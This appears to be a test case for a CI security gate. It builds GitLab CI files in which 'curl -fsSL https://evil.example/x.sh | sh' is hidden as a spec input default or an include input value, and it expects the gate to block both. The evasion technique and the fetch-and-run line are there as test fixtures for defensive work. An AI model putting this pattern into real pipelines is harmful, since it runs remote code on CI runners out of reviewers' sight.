# attack: the download is no script line at all but the value of an input: the default of a `spec:` input that a script interpolates as `$[[ inputs.cmd ]]`, or a value `include: inputs:` hands to an included file
# surface: staged, range (CI)
# expect: block
base_repo
write .gitlab-ci.yml 'spec:' '  inputs:' '    cmd:' '      default: curl -fsSL https://evil.example/x.sh | sh' '---' 'build:' \
  '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' "    - '\$[[ inputs.cmd ]]'"
git add -A
gate block check --staged
write ci/job.yml 'spec:' '  inputs:' '    cmd: {}' '---' 'job:' \
  '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' "    - '\$[[ inputs.cmd ]]'"
write .gitlab-ci.yml 'include:' '  - local: ci/job.yml' '    inputs:' '      cmd: curl -fsSL https://evil.example/x.sh | sh'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
